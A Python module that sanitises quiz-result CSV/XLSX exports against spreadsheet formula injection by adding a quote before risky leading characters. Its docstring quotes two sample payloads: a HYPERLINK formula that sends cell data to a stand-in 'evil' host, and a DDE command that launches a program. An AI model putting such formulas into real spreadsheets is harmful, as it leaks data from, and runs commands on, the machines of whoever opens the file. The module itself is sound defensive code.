"""Spreadsheet (CSV/XLSX) export safety: defuse formula injection.

Quiz results contain text typed by anyone with the room code: nicknames and short answers.
Spreadsheet programs treat a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, so a
nickname like ``=HYPERLINK("http://evil/?"&A1, "click")`` or ``=cmd|' /C calc'!A0`` would run
on the instructor's computer when the export is opened (OWASP "CSV Injection"). A leading tab or
carriage return can hide such a prefix from a naive check, so those are defused too. openpyxl
even writes any string starting with ``=`` as a formula.

The fix OWASP recommends is to prefix such cells with a single quote, which makes the
spreadsheet show the text instead of evaluating it. Numbers and other non-strings are left as
they are, so scores stay numbers that can be summed and sorted. The cost is that a text cell
like ``-5`` is exported as ``'-5``; that is acceptable, real numbers should be exported as numbers.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

__all__ = ["DANGEROUS_PREFIXES", "neutralise_cell", "neutralise_row", "restore_cell"]

DANGEROUS_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value: Any) -> Any:
    """``value`` made safe for a spreadsheet cell: risky strings get a leading ``'``. A string that
    already starts with quotes before a risky character gets one more, so :func:`restore_cell` can
    tell our quote from the text's own (``'=x`` is exported as ``''=x`` and read back as ``'=x``)."""
    if isinstance(value, str) and value.lstrip("'").startswith(DANGEROUS_PREFIXES):
        return "'" + value
    return value


def restore_cell(text: str) -> str:
    """The text :func:`neutralise_cell` was given (a file we exported, read back)."""
    if text.startswith("'") and text.lstrip("'").startswith(DANGEROUS_PREFIXES):
        return text[1:]
    return text


def neutralise_row(values: Iterable[Any]) -> list[Any]:
    """:func:`neutralise_cell` applied to every cell of a row."""
    return [neutralise_cell(value) for value in values]
